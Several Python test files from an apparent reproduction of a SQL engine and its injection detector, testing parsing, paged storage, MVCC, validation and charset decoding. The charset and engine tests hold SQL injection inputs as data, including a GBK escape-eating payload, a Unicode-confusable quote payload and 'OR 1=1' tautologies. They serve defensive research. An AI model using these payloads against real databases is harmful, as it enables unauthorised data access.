from hypothesis import given, settings, strategies as st

from repro.sqldb.charset import escape_string
from repro.sqldb.lexer import KEYWORDS
from repro.sqldb.parser import parse_one
from repro.sqldb.unparse import to_sql

CORPUS = [
    "SELECT 1",
    "SELECT * FROM t",
    "SELECT a, b AS bee FROM t",
    "SELECT t.* FROM t",
    "SELECT DISTINCT a FROM t",
    "SELECT * FROM t WHERE a = 1 AND b = 'x'",
    "SELECT * FROM t WHERE a = 1 OR b = 2 AND c = 3",
    "SELECT * FROM t WHERE NOT a = 1",
    "SELECT * FROM t WHERE a IN (1, 2, 3)",
    "SELECT * FROM t WHERE a NOT IN (SELECT b FROM u)",
    "SELECT * FROM t WHERE a BETWEEN 1 AND 5",
    "SELECT * FROM t WHERE a IS NOT NULL",
    "SELECT * FROM t WHERE a LIKE 'x%'",
    "SELECT * FROM t WHERE a REGEXP '^x'",
    "SELECT * FROM t WHERE a <=> NULL",
    "SELECT CONCAT(a, 'x', 1) FROM t",
    "SELECT COUNT(*) FROM t",
    "SELECT COUNT(DISTINCT a) FROM t",
    "SELECT CASE WHEN a = 1 THEN 'x' ELSE 'y' END FROM t",
    "SELECT CASE a WHEN 1 THEN 'x' WHEN 2 THEN 'y' END FROM t",
    "SELECT CAST(a AS SIGNED) FROM t",
    "SELECT (SELECT MAX(a) FROM t) FROM u",
    "SELECT * FROM t WHERE EXISTS (SELECT 1 FROM u)",
    "SELECT a FROM t GROUP BY a HAVING COUNT(*) > 1",
    "SELECT a FROM t ORDER BY a DESC, b ASC LIMIT 5",
    "SELECT a FROM t LIMIT 5 OFFSET 2",
    "SELECT * FROM a JOIN b ON a.x = b.x",
    "SELECT * FROM a LEFT JOIN b ON a.x = b.x",
    "SELECT * FROM a CROSS JOIN b",
    "SELECT * FROM (SELECT a FROM t) AS d WHERE d.a = 1",
    "SELECT a FROM t UNION SELECT b FROM u",
    "SELECT a FROM t UNION ALL SELECT b FROM u",
    "SELECT 1 + 2 * 3 - 4 / 5",
    "SELECT a | b & c << 1",
    "SELECT * FROM t WHERE a = ?",
    "INSERT INTO t (a, b) VALUES (1, 'x')",
    "INSERT INTO t (a) VALUES (1), (2), (3)",
    "INSERT IGNORE INTO t (a) VALUES (1)",
    "INSERT INTO t (a) VALUES (1) ON DUPLICATE KEY UPDATE b = b + 1",
    "REPLACE INTO t (a) VALUES (1)",
    "UPDATE t SET a = 1, b = b + 1 WHERE id = 3",
    "UPDATE t SET a = 1 ORDER BY id LIMIT 2",
    "DELETE FROM t WHERE a = 1",
    "DELETE FROM t ORDER BY a DESC LIMIT 1",
]


@pytest.mark.parametrize("sql", CORPUS)
def test_roundtrip_corpus(sql):
    first = parse_one(sql)
    rendered = to_sql(first)
    second = parse_one(rendered)
    assert second == first, rendered


@pytest.mark.parametrize("sql", CORPUS)
def test_roundtrip_is_fixpoint(sql):
    """Unparsing is canonical: a second round-trip changes nothing."""
    once = to_sql(parse_one(sql))
    twice = to_sql(parse_one(once))
    assert once == twice


idents = st.text(alphabet=string.ascii_lowercase, min_size=1,
                 max_size=8).filter(lambda s: s.upper() not in KEYWORDS)
values = st.one_of(
    st.integers(min_value=0, max_value=10**6),
    st.text(alphabet=st.characters(blacklist_categories=("Cs",),
                                   blacklist_characters="ʼʹ‘’′＇“”″＂＜＞；－＃"),
            max_size=20),
)


@settings(max_examples=60, deadline=None)
@given(idents, idents, values, st.sampled_from(["=", "!=", "<", ">="]))
def test_roundtrip_generated_selects(table, column, value, op):
    if isinstance(value, str):
        literal = "'%s'" % escape_string(value)
    else:
        literal = str(value)
    sql = "SELECT %s FROM %s WHERE %s %s %s" % (
        column, table, column, op, literal
    )
    first = parse_one(sql)
    assert parse_one(to_sql(first)) == first
