"""The paged backend behind the scan APIs: memory/paged parity, MVCC
across evictions, pin discipline under a tiny pool, recovery round
trips and the buffer-pool accounting surfaced through Septic.status().
"""

import json
import random

import pytest

from repro.benchlab.crashsweep import state_digest, verify_paged_consistency
from repro.core.septic import Septic
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database
from repro.sqldb.errors import PagerError
from repro.sqldb.pager import PageStore
from repro.sqldb.storage import PagedTable


def paged_db(tmp_path, name="paged", **kwargs):
    kwargs.setdefault("storage", "paged")
    kwargs.setdefault("page_size", 512)
    kwargs.setdefault("pool_pages", 4)
    return Database.recover(str(tmp_path / name), seed=1, **kwargs)


STATEMENTS = (
    ["CREATE TABLE t (id INT AUTO_INCREMENT PRIMARY KEY, "
     "name VARCHAR(30), qty INT)",
     "CREATE INDEX idx_name ON t (name)"]
    + ["INSERT INTO t (name, qty) VALUES ('name%03d', %d)" % (i % 7, i)
       for i in range(60)]
    + ["UPDATE t SET qty = qty + 1000 WHERE name = 'name003'",
       "DELETE FROM t WHERE qty < 10",
       "ALTER TABLE t ADD COLUMN note VARCHAR(10) DEFAULT 'x'",
       "INSERT INTO t (name, qty) VALUES ('tail', 1)"]
)

PROBES = (
    "SELECT COUNT(*) FROM t",
    "SELECT id, name, qty FROM t ORDER BY id",
    "SELECT qty FROM t WHERE name = 'name003' ORDER BY qty",
    "SELECT name FROM t WHERE qty > 500 ORDER BY id",
)


class TestParityWithMemoryBackend(object):
    def test_same_statements_same_answers_same_digest(self, tmp_path):
        """60 inserts into 512-byte pages under a 4-frame pool: the
        trees split, frames evict and spill — and every answer must
        still match the in-memory backend row for row."""
        memory = Database.recover(str(tmp_path / "mem"), seed=1)
        paged = paged_db(tmp_path)
        for sql in STATEMENTS:
            memory.run(sql)
            paged.run(sql)
        for probe in PROBES:
            expected = memory.run(probe)[0].result_set.rows
            got = paged.run(probe)[0].result_set.rows
            assert got == expected, probe
        assert state_digest(paged) == state_digest(memory)
        assert verify_paged_consistency(paged) == []
        # the workload was actually big enough to exercise eviction
        stats = paged.storage_stats()
        assert stats["evictions"] > 0
        assert stats["pages_cached"] <= stats["capacity"]
        memory.close()
        paged.close()

    def test_transactions_and_rollback_parity(self, tmp_path):
        memory = Database.recover(str(tmp_path / "mem"), seed=1)
        paged = paged_db(tmp_path)
        script = (
            "CREATE TABLE a (id INT PRIMARY KEY, v INT); "
            "INSERT INTO a (id, v) VALUES (1, 10), (2, 20); "
            "BEGIN; UPDATE a SET v = 99 WHERE id = 1; ROLLBACK; "
            "BEGIN; UPDATE a SET v = 77 WHERE id = 2; COMMIT"
        )
        for db in (memory, paged):
            Connection(db, multi_statements=True).multi_query(script)
        assert (paged.run("SELECT id, v FROM a ORDER BY id")[0]
                .result_set.rows
                == memory.run("SELECT id, v FROM a ORDER BY id")[0]
                .result_set.rows)
        memory.close()
        paged.close()


class TestMvccAcrossEvictions(object):
    def test_snapshot_survives_pool_churn(self, tmp_path):
        """The MVCC regression the ISSUE pins: a transaction's snapshot
        must hold even after every page it read has been evicted and
        reloaded underneath it."""
        db = paged_db(tmp_path)
        db.seed("CREATE TABLE accounts (id INT PRIMARY KEY, bal INT); "
                "INSERT INTO accounts (id, bal) VALUES (1, 100), (2, 100)")
        a, b = Connection(db), Connection(db)
        a.begin()
        assert a.query_or_raise(
            "SELECT bal FROM accounts WHERE id = 1"
        ).result_set.scalar() == 100
        b.query_or_raise("UPDATE accounts SET bal = 55 WHERE id = 1")
        # churn the 4-frame pool far past capacity
        db.run("CREATE TABLE filler (k INT, pad VARCHAR(30))")
        for i in range(120):
            db.run("INSERT INTO filler (k, pad) VALUES (%d, '%s')"
                   % (i, "x" * 20))
        assert db.storage_stats()["evictions"] > 0
        assert a.query_or_raise(
            "SELECT bal FROM accounts WHERE id = 1"
        ).result_set.scalar() == 100, "snapshot torn by eviction"
        a.commit()
        assert a.query_or_raise(
            "SELECT bal FROM accounts WHERE id = 1"
        ).result_set.scalar() == 55
        db.close()

    def test_own_pending_writes_visible_after_churn(self, tmp_path):
        db = paged_db(tmp_path)
        db.seed("CREATE TABLE accounts (id INT PRIMARY KEY, bal INT); "
                "INSERT INTO accounts (id, bal) VALUES (1, 100)")
        a = Connection(db)
        a.begin()
        a.query_or_raise("UPDATE accounts SET bal = 7 WHERE id = 1")
        db.run("CREATE TABLE filler (k INT, pad VARCHAR(30))")
        for i in range(120):
            db.run("INSERT INTO filler (k, pad) VALUES (%d, '%s')"
                   % (i, "y" * 20))
        assert a.query_or_raise(
            "SELECT bal FROM accounts WHERE id = 1"
        ).result_set.scalar() == 7
        a.commit()
        db.close()


class TestPinDiscipline(object):
    def _store(self, tmp_path, capacity=4):
        return PageStore(str(tmp_path / "d"), page_size=512,
                         pool_pages=capacity, sync=False,
                         encoder=lambda node: json.dumps(
                             node, sort_keys=True).encode("utf-8"),
                         decoder=lambda payload: json.loads(
                             payload.decode("utf-8")))

    def test_eviction_refuses_pinned_frames(self, tmp_path):
        store = self._store(tmp_path)
        pool = store.pool
        pages = [pool.new_page({"p": i}) for i in range(4)]
        for page_no in pages:
            pool.pin(page_no)
        with pytest.raises(PagerError):
            pool.new_page({"p": 99})
        assert pool.pin_denials == 1
        # unpinning one frame unblocks admission, and the victim is
        # never one of the still-pinned pages
        pool.unpin(pages[0])
        extra = pool.new_page({"p": 99})
        assert all(p in pool for p in pages[1:] + [extra])
        store.close()

    def test_random_pin_unpin_evict_keeps_every_invariant(self, tmp_path):
        """200 seeded random ops against a 4-frame pool: residency
        never exceeds capacity, a pinned page is never evicted, and
        every page read back equals what was written (through spill
        round trips included)."""
        store = self._store(tmp_path)
        pool = store.pool
        rng = random.Random(42)
        model = {}
        pinned = []
        for step in range(200):
            action = rng.random()
            if action < 0.35 or not model:
                node = {"page": len(model), "step": step}
                page_no = pool.new_page(dict(node))
                model[page_no] = node
            elif action < 0.75:
                page_no = rng.choice(sorted(model))
                if len(pinned) >= pool.capacity - 1 and page_no not in pool:
                    continue    # a miss-fetch could need an eviction
                assert pool.fetch(page_no) == model[page_no], \
                    "page %d content torn at step %d" % (page_no, step)
            elif action < 0.9 and len(pinned) < pool.capacity - 1:
                page_no = rng.choice(sorted(model))
                if page_no not in pool:
                    continue
                pool.pin(page_no)
                pinned.append(page_no)
            elif pinned:
                page_no = pinned.pop(rng.randrange(len(pinned)))
                pool.unpin(page_no)
            assert len(pool.pinned_pages()) <= len(pinned) + 1
            stats = pool.stats_dict()
            assert stats["pages_cached"] <= stats["capacity"]
            for page_no in pinned:
                assert page_no in pool, \
                    "pinned page %d evicted at step %d" % (page_no, step)
        for page_no in pinned:
            pool.unpin(page_no)
        # full audit: every page round-trips after the churn
        for page_no in sorted(model):
            assert pool.fetch(page_no) == model[page_no]
        store.close()


class TestRecoveryRoundTrip(object):
    def test_checkpoint_plus_tail_replay(self, tmp_path):
        db = paged_db(tmp_path)
        for sql in STATEMENTS:
            db.run(sql)
        db.checkpoint()
        db.run("INSERT INTO t (name, qty) VALUES ('post-ckpt', 4242)")
        golden = state_digest(db)
        db.close()
        recovered = paged_db(tmp_path)
        assert state_digest(recovered) == golden
        assert isinstance(recovered.tables["t"], PagedTable)
        assert recovered.run(
            "SELECT COUNT(*) FROM t WHERE qty = 4242"
        )[0].result_set.scalar() == 1
        assert verify_paged_consistency(recovered) == []
        recovered.close()

    def test_reopen_into_memory_backend_reads_the_same_wal(self, tmp_path):
        """The backends share one WAL format: a directory written by
        the paged engine recovers bit-identically on the in-memory
        one (the scan APIs are the only contract)."""
        db = paged_db(tmp_path, name="shared")
        for sql in STATEMENTS:
            db.run(sql)
        golden = state_digest(db)
        db.close()
        memory = Database.recover(str(tmp_path / "shared"), seed=1)
        assert state_digest(memory) == golden
        memory.close()


class TestStatusAccounting(object):
    def test_septic_status_carries_buffer_pool_counters(self, tmp_path):
        db = paged_db(tmp_path)
        septic = Septic()
        septic.bind_store(db)
        for sql in STATEMENTS:
            db.run(sql)
        storage = septic.status()["storage"]
        assert storage["pages_cached"] <= storage["capacity"] == 4
        assert storage["evictions"] > 0
        assert storage["dirty_flushes"] > 0
        assert storage["scrub_repairs"] == 0
        assert storage["pager"]["writes"] > 0
        assert storage["scrubber"]["false_repairs"] == 0
        db.close()

    def test_memory_backend_reports_no_storage(self, tmp_path):
        db = Database.recover(str(tmp_path / "mem"), seed=1)
        septic = Septic()
        septic.bind_store(db)
        assert septic.status()["storage"] is None
        db.close()
