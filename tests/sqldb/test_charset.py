"""Tests for connection-charset decoding (the semantic-mismatch root)."""

import pytest

from repro.sqldb.charset import (
    GBK_MERGED_CHAR,
    decode_query,
    eat_gbk_escapes,
    escape_string,
    fold_confusables,
)


class TestFoldConfusables(object):
    def test_modifier_letter_apostrophe_becomes_quote(self):
        assert fold_confusables("IDʼ") == "ID'"

    def test_right_single_quotation_mark(self):
        assert fold_confusables("don’t") == "don't"

    def test_fullwidth_apostrophe(self):
        assert fold_confusables("＇") == "'"

    def test_double_quote_confusables(self):
        assert fold_confusables("“x”") == '"x"'

    def test_fullwidth_angle_brackets(self):
        assert fold_confusables("＜script＞") == "<script>"

    def test_ascii_passthrough(self):
        text = "SELECT * FROM t WHERE a = 'b'"
        assert fold_confusables(text) is text  # fast path: same object

    def test_unmapped_unicode_survives(self):
        assert fold_confusables("héllo") == "héllo"

    def test_paper_payload(self):
        # the §II-D1 second-order payload decodes to a live quote + comment
        assert fold_confusables("ID34FGʼ-- ") == "ID34FG'-- "


class TestGbkEscapeEating(object):
    def test_bf_backslash_merges(self):
        assert eat_gbk_escapes("¿\\x") == GBK_MERGED_CHAR + "x"

    def test_classic_attack_shape(self):
        # addslashes output: 0xBF 0x5C 0x27 -> merged char + live quote
        out = eat_gbk_escapes("¿\\' OR 1=1")
        assert out == GBK_MERGED_CHAR + "' OR 1=1"

    def test_plain_backslash_untouched(self):
        assert eat_gbk_escapes("a\\'b") == "a\\'b"

    def test_no_lead_byte_no_change(self):
        text = "hello \\' world"
        assert eat_gbk_escapes(text) == text

    def test_lead_byte_without_backslash_untouched(self):
        assert eat_gbk_escapes("¿x") == "¿x"

    def test_trailing_lead_byte(self):
        assert eat_gbk_escapes("abc¿") == "abc¿"


class TestDecodeQuery(object):
    def test_utf8_folds(self):
        assert decode_query("ʼ") == "'"

    def test_utf8_strict_does_not_fold(self):
        assert decode_query("ʼ", "utf8_strict") == "ʼ"

    def test_latin1_does_not_fold(self):
        assert decode_query("ʼ", "latin1") == "ʼ"

    def test_gbk_folds_and_eats(self):
        out = decode_query("¿\\' ʼ", "gbk")
        assert out == GBK_MERGED_CHAR + "' '"

    def test_unknown_charset_rejected(self):
        with pytest.raises(ValueError):
            decode_query("x", "utf16")


class TestEscapeString(object):
    def test_quote(self):
        assert escape_string("a'b") == "a\\'b"

    def test_double_quote(self):
        assert escape_string('a"b') == 'a\\"b'

    def test_backslash(self):
        assert escape_string("a\\b") == "a\\\\b"

    def test_newline_and_nul(self):
        assert escape_string("a\nb\0c") == "a\\nb\\0c"

    def test_ctrl_z(self):
        assert escape_string("\x1a") == "\\Z"

    def test_unicode_confusable_NOT_escaped(self):
        # the heart of the semantic mismatch: the escaper passes U+02BC
        assert escape_string("ʼ") == "ʼ"

    def test_idempotent_on_clean_text(self):
        assert escape_string("hello world 123") == "hello world 123"
