"""Additional executor behavior pinning: aliases in HAVING, expression
grouping, nested subqueries, LIKE escapes, coercion in joins."""

import pytest

from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database


@pytest.fixture
def sales():
    database = Database()
    database.seed(
        """
        CREATE TABLE sales (
            id INT PRIMARY KEY AUTO_INCREMENT,
            region VARCHAR(20),
            amount INT,
            pct VARCHAR(10)
        );
        INSERT INTO sales (region, amount, pct) VALUES
            ('north', 100, '10%'),
            ('north', 200, '20%'),
            ('south', 50, '5%'),
            ('south', 70, '50_0'),
            ('east', 300, 'n/a');
        """
    )
    return Connection(database)


def rows(conn, sql):
    outcome = conn.query(sql)
    if not outcome.ok:
        raise outcome.error
    return outcome.result_set.rows


class TestGroupingEdges(object):
    def test_having_filters_groups(self, sales):
        got = rows(sales,
                   "SELECT region, SUM(amount) AS total FROM sales "
                   "GROUP BY region HAVING SUM(amount) > 150 "
                   "ORDER BY region")
        assert got == [("east", 300), ("north", 300)]

    def test_group_by_expression(self, sales):
        got = rows(sales,
                   "SELECT amount DIV 100, COUNT(*) FROM sales "
                   "GROUP BY amount DIV 100 ORDER BY 1")
        assert got == [(0, 2), (1, 1), (2, 1), (3, 1)]

    def test_group_by_string_case_insensitive(self, sales):
        sales.query_or_raise(
            "INSERT INTO sales (region, amount, pct) "
            "VALUES ('NORTH', 1, '')"
        )
        got = rows(sales,
                   "SELECT COUNT(*) FROM sales GROUP BY region "
                   "ORDER BY 1 DESC")
        assert got[0] == (3,)   # 'north' and 'NORTH' share a group

    def test_aggregate_inside_order_by(self, sales):
        got = rows(sales,
                   "SELECT region FROM sales GROUP BY region "
                   "ORDER BY MAX(amount) DESC")
        assert got[0] == ("east",)

    def test_count_over_empty_group_filter(self, sales):
        got = rows(sales,
                   "SELECT region, COUNT(*) FROM sales "
                   "WHERE amount > 1000 GROUP BY region")
        assert got == []


class TestSubqueryEdges(object):
    def test_nested_two_levels(self, sales):
        got = rows(sales,
                   "SELECT region FROM sales WHERE amount = "
                   "(SELECT MAX(amount) FROM sales WHERE amount < "
                   "(SELECT MAX(amount) FROM sales))")
        assert got == [("north",)]

    def test_in_subquery_with_where(self, sales):
        got = rows(sales,
                   "SELECT DISTINCT region FROM sales WHERE id IN "
                   "(SELECT id FROM sales WHERE amount >= 200) "
                   "ORDER BY region")
        assert got == [("east",), ("north",)]

    def test_scalar_subquery_in_select_list(self, sales):
        got = rows(sales,
                   "SELECT region, (SELECT MAX(amount) FROM sales) "
                   "FROM sales WHERE id = 1")
        assert got == [("north", 300)]

    def test_correlated_in_select_list(self, sales):
        got = rows(sales,
                   "SELECT s.region, (SELECT COUNT(*) FROM sales t "
                   "WHERE t.region = s.region) FROM sales s "
                   "WHERE s.id IN (1, 3) ORDER BY s.id")
        assert got == [("north", 2), ("south", 2)]


class TestLikeEdges(object):
    def test_escaped_percent(self, sales):
        got = rows(sales,
                   "SELECT COUNT(*) FROM sales WHERE pct LIKE '%\\\\%'")
        assert got == [(3,)]   # values ending in a literal %

    def test_escaped_underscore(self, sales):
        got = rows(sales,
                   "SELECT pct FROM sales WHERE pct LIKE '50\\\\_0'")
        assert got == [("50_0",)]

    def test_underscore_wildcard(self, sales):
        got = rows(sales,
                   "SELECT COUNT(*) FROM sales WHERE pct LIKE '_0%'")
        assert got == [(3,)]   # '10%', '20%' and '50_0' (the _ is the 5)

    def test_like_against_number_column(self, sales):
        # LIKE stringifies the number: only 100 starts with '1'
        got = rows(sales,
                   "SELECT COUNT(*) FROM sales WHERE amount LIKE '1%'")
        assert got == [(1,)]


class TestCoercionInPredicates(object):
    def test_string_column_vs_number(self, sales):
        got = rows(sales,
                   "SELECT COUNT(*) FROM sales WHERE pct = 10")
        assert got == [(1,)]   # '10%' coerces to 10

    def test_join_on_coerced_values(self, sales):
        database = sales.database
        database.seed(
            "CREATE TABLE targets (region VARCHAR(20), goal VARCHAR(10));"
            "INSERT INTO targets VALUES ('north', '300'), ('east', '1');"
        )
        got = rows(sales,
                   "SELECT t.region FROM targets t JOIN sales s "
                   "ON s.amount = t.goal WHERE s.region = 'east'")
        assert got == [("north",)]
