"""Tests for semantic validation and item-stack construction."""

import pytest

from repro.sqldb.errors import ValidationError
from repro.sqldb.items import Item, ItemKind
from repro.sqldb.parser import parse_one
from repro.sqldb.validator import validate


def stack_of(sql, catalog=None):
    return validate(parse_one(sql), catalog)


def shape(stack):
    return [(item.kind, item.value) for item in stack]


class TestPaperFigure2(object):
    """The exact stack of the paper's Figure 2a."""

    def test_ticket_query_stack(self, db):
        stack = stack_of(
            "SELECT * FROM tickets WHERE reservID = 'ID34FG' "
            "AND creditCard = 1234",
            db.tables,
        )
        assert shape(stack) == [
            (ItemKind.FROM_TABLE, "tickets"),
            (ItemKind.SELECT_FIELD, "*"),
            (ItemKind.FIELD_ITEM, "reservid"),
            (ItemKind.STRING_ITEM, "ID34FG"),
            (ItemKind.FUNC_ITEM, "="),
            (ItemKind.FIELD_ITEM, "creditcard"),
            (ItemKind.INT_ITEM, 1234),
            (ItemKind.FUNC_ITEM, "="),
            (ItemKind.COND_ITEM, "AND"),
        ]

    def test_figure3_attack_stack_is_five_nodes(self, db):
        stack = stack_of(
            "SELECT * FROM tickets WHERE reservID = 'ID34FG'", db.tables
        )
        assert len(stack) == 5

    def test_figure4_mimicry_stack_same_count(self, db):
        benign = stack_of(
            "SELECT * FROM tickets WHERE reservID = 'x' "
            "AND creditCard = 1",
            db.tables,
        )
        mimicry = stack_of(
            "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1",
            db.tables,
        )
        assert len(benign) == len(mimicry)
        # node 5 (0-based) differs: INT_ITEM 1 vs FIELD_ITEM creditcard
        assert mimicry[5] == Item(ItemKind.INT_ITEM, 1)
        assert benign[5] == Item(ItemKind.FIELD_ITEM, "creditcard")


class TestExpressionsPostorder(object):
    def test_operands_before_operator(self):
        stack = stack_of("SELECT a + b * 2 FROM t")
        assert shape(stack)[1:] == [
            (ItemKind.FIELD_ITEM, "a"),
            (ItemKind.FIELD_ITEM, "b"),
            (ItemKind.INT_ITEM, 2),
            (ItemKind.FUNC_ITEM, "*"),
            (ItemKind.FUNC_ITEM, "+"),
        ]

    def test_cond_flattening_one_node(self):
        stack = stack_of("SELECT * FROM t WHERE a=1 AND b=2 AND c=3")
        conds = [i for i in stack if i.kind == ItemKind.COND_ITEM]
        assert len(conds) == 1 and conds[0].value == "AND"

    def test_function_call(self):
        stack = stack_of("SELECT CONCAT(a, 'x') FROM t")
        assert (ItemKind.FUNC_ITEM, "CONCAT") in shape(stack)

    def test_in_list(self):
        stack = stack_of("SELECT * FROM t WHERE a IN (1, 2)")
        assert shape(stack)[-1] == (ItemKind.FUNC_ITEM, "IN")

    def test_not_in(self):
        stack = stack_of("SELECT * FROM t WHERE a NOT IN (1)")
        assert shape(stack)[-1] == (ItemKind.FUNC_ITEM, "NOT IN")

    def test_between(self):
        stack = stack_of("SELECT * FROM t WHERE a BETWEEN 1 AND 2")
        assert shape(stack)[-1] == (ItemKind.FUNC_ITEM, "BETWEEN")

    def test_is_null(self):
        stack = stack_of("SELECT * FROM t WHERE a IS NULL")
        assert shape(stack)[-1] == (ItemKind.FUNC_ITEM, "IS NULL")

    def test_like(self):
        stack = stack_of("SELECT * FROM t WHERE a LIKE 'x%'")
        assert shape(stack)[-1] == (ItemKind.FUNC_ITEM, "LIKE")

    def test_bool_literal_is_int_item(self):
        stack = stack_of("SELECT * FROM t WHERE a = TRUE")
        assert (ItemKind.INT_ITEM, 1) in shape(stack)

    def test_null_literal(self):
        stack = stack_of("SELECT * FROM t WHERE a <=> NULL")
        assert (ItemKind.NULL_ITEM, None) in shape(stack)

    def test_param_item(self):
        stack = stack_of("SELECT * FROM t WHERE a = ?")
        assert (ItemKind.PARAM_ITEM, "?") in shape(stack)

    def test_subquery_markers(self):
        stack = stack_of(
            "SELECT * FROM t WHERE a IN (SELECT b FROM u)"
        )
        kinds = [item.kind for item in stack]
        begin = kinds.index(ItemKind.SUBSELECT_ITEM)
        assert stack[begin].value == "BEGIN"
        assert any(
            item.kind == ItemKind.SUBSELECT_ITEM and item.value == "END"
            for item in stack
        )

    def test_case_markers(self):
        stack = stack_of("SELECT CASE WHEN a=1 THEN 2 ELSE 3 END FROM t")
        case_nodes = [i for i in stack if i.kind == ItemKind.CASE_ITEM]
        assert [n.value for n in case_nodes] == ["CASE", "END"]


class TestStatementShapes(object):
    def test_insert_stack(self, db):
        stack = stack_of(
            "INSERT INTO tickets (reservID, creditCard) "
            "VALUES ('AA', 1), ('BB', 2)",
            db.tables,
        )
        assert shape(stack) == [
            (ItemKind.INSERT_TABLE, "tickets"),
            (ItemKind.INSERT_FIELD, "reservid"),
            (ItemKind.INSERT_FIELD, "creditcard"),
            (ItemKind.ROW_ITEM, "ROW"),
            (ItemKind.STRING_ITEM, "AA"),
            (ItemKind.INT_ITEM, 1),
            (ItemKind.ROW_ITEM, "ROW"),
            (ItemKind.STRING_ITEM, "BB"),
            (ItemKind.INT_ITEM, 2),
        ]

    def test_insert_without_columns_expands(self, db):
        stack = stack_of("INSERT INTO tickets VALUES (1, 'AA', 2)",
                         db.tables)
        fields = [i.value for i in stack
                  if i.kind == ItemKind.INSERT_FIELD]
        assert fields == ["id", "reservid", "creditcard"]

    def test_insert_column_count_mismatch(self, db):
        with pytest.raises(ValidationError):
            stack_of("INSERT INTO tickets (reservID) VALUES ('A', 1)",
                     db.tables)

    def test_update_stack(self, db):
        stack = stack_of(
            "UPDATE tickets SET creditCard = 5 WHERE reservID = 'x'",
            db.tables,
        )
        assert shape(stack)[0] == (ItemKind.UPDATE_TABLE, "tickets")
        assert (ItemKind.UPDATE_FIELD, "creditcard") in shape(stack)

    def test_delete_stack(self, db):
        stack = stack_of("DELETE FROM tickets WHERE id = 1", db.tables)
        assert shape(stack)[0] == (ItemKind.DELETE_TABLE, "tickets")

    def test_join_markers(self):
        stack = stack_of("SELECT * FROM a JOIN b ON a.x = b.x")
        assert (ItemKind.JOIN_ITEM, "INNER") in shape(stack)
        tables = [i.value for i in stack if i.kind == ItemKind.FROM_TABLE]
        assert tables == ["a", "b"]

    def test_order_group_limit_markers(self):
        stack = stack_of(
            "SELECT a FROM t GROUP BY a HAVING COUNT(*) > 0 "
            "ORDER BY a DESC LIMIT 5"
        )
        kinds = [item.kind for item in stack]
        assert ItemKind.GROUP_ITEM in kinds
        assert ItemKind.HAVING_ITEM in kinds
        assert ItemKind.ORDER_ITEM in kinds
        assert ItemKind.LIMIT_ITEM in kinds
        order = next(i for i in stack if i.kind == ItemKind.ORDER_ITEM)
        assert order.value == "DESC"

    def test_union_marker(self):
        stack = stack_of("SELECT a FROM t UNION ALL SELECT b FROM u")
        assert (ItemKind.UNION_ITEM, "ALL") in shape(stack)

    def test_ddl_produces_empty_stack(self, db):
        assert stack_of("DROP TABLE tickets", db.tables) == []
        assert stack_of("SHOW TABLES", db.tables) == []


class TestNameResolution(object):
    def test_unknown_table(self, db):
        with pytest.raises(ValidationError):
            stack_of("SELECT * FROM nope", db.tables)

    def test_unknown_column(self, db):
        with pytest.raises(ValidationError):
            stack_of("SELECT nope FROM tickets", db.tables)

    def test_unknown_qualified_column(self, db):
        with pytest.raises(ValidationError):
            stack_of("SELECT tickets.nope FROM tickets", db.tables)

    def test_unknown_alias(self, db):
        with pytest.raises(ValidationError):
            stack_of("SELECT x.id FROM tickets t", db.tables)

    def test_alias_resolution(self, db):
        stack = stack_of("SELECT t.id FROM tickets t", db.tables)
        assert (ItemKind.FIELD_ITEM, "id") in shape(stack)

    def test_case_insensitive_names(self, db):
        stack = stack_of("SELECT RESERVID FROM TICKETS", db.tables)
        assert (ItemKind.FIELD_ITEM, "reservid") in shape(stack)

    def test_no_catalog_skips_resolution(self):
        stack = stack_of("SELECT whatever FROM wherever")
        assert (ItemKind.FIELD_ITEM, "whatever") in shape(stack)

    def test_correlated_subquery_outer_column(self, db):
        # inner query may reference the outer scope
        stack = stack_of(
            "SELECT * FROM tickets t WHERE EXISTS "
            "(SELECT 1 FROM tickets u WHERE u.id = t.id)",
            db.tables,
        )
        assert len(stack) > 0

    def test_update_unknown_column(self, db):
        with pytest.raises(ValidationError):
            stack_of("UPDATE tickets SET nope = 1", db.tables)
