"""Tests for the Database engine object and pipeline mechanics."""

import pytest

from repro.sqldb.connection import Connection, QueryOutcome
from repro.sqldb.engine import Database, QueryContext
from repro.sqldb.errors import MultiStatementError, SQLError


class TestPipeline(object):
    def test_run_returns_one_result_per_statement(self):
        database = Database()
        results = database.run("SELECT 1; SELECT 2", multi=True)
        assert [r.result_set.scalar() for r in results] == [1, 2]

    def test_multi_disabled_raises(self):
        database = Database()
        with pytest.raises(MultiStatementError):
            database.run("SELECT 1; SELECT 2")

    def test_charset_override_per_call(self):
        database = Database(charset="utf8")
        # strict decoding leaves the confusable alone -> it stays inside
        # the string literal as data
        result = database.run("SELECT 'xʼy'", charset="utf8_strict")[0]
        assert result.result_set.scalar() == "xʼy"
        # the MySQL-like decoder folds it into a quote that terminates
        # the literal early — the same query is now malformed SQL (the
        # semantic mismatch in miniature)
        with pytest.raises(SQLError):
            database.run("SELECT 'xʼy'")

    def test_statements_received_counts_blocked(self):
        from repro.core.septic import Mode, Septic

        septic = Septic(mode=Mode.TRAINING)
        database = Database(septic=septic)
        database.seed("CREATE TABLE t (a INT)")
        conn = Connection(database)
        conn.query("/* septic:s:1 */ SELECT * FROM t WHERE a = 1")
        septic.mode = Mode.PREVENTION
        received = database.statements_received
        executed = database.statements_executed
        conn.query("/* septic:s:1 */ SELECT * FROM t WHERE a = 1 OR 1=1")
        assert database.statements_received == received + 1
        assert database.statements_executed == executed  # dropped

    def test_seed_is_multi_statement(self):
        database = Database()
        database.seed("CREATE TABLE a (x INT); CREATE TABLE b (y INT);")
        assert set(database.tables) == {"a", "b"}

    def test_table_lookup_error(self):
        database = Database()
        with pytest.raises(SQLError) as err:
            database.table("ghost")
        assert err.value.errno == 1146


class TestEnvironment(object):
    def test_clock_monotonic_and_deterministic(self):
        a = Database()
        b = Database()
        series_a = [a.now() for _ in range(3)]
        series_b = [b.now() for _ in range(3)]
        assert series_a == series_b
        assert series_a == sorted(series_a)

    def test_rand_seed_controls_sequence(self):
        assert Database(seed=3).rand() == Database(seed=3).rand()
        assert Database(seed=3).rand() != Database(seed=4).rand()

    def test_version_and_user(self):
        database = Database(name="shop")
        assert "repro" in database.version
        assert database.name == "shop"


class TestQueryContext(object):
    def test_command_property(self):
        from repro.sqldb.parser import parse_one

        stmt = parse_one("SELECT 1")
        context = QueryContext("SELECT 1", stmt, [], [], None)
        assert context.command == "SELECT"


class TestQueryOutcome(object):
    def test_ok_and_rows(self):
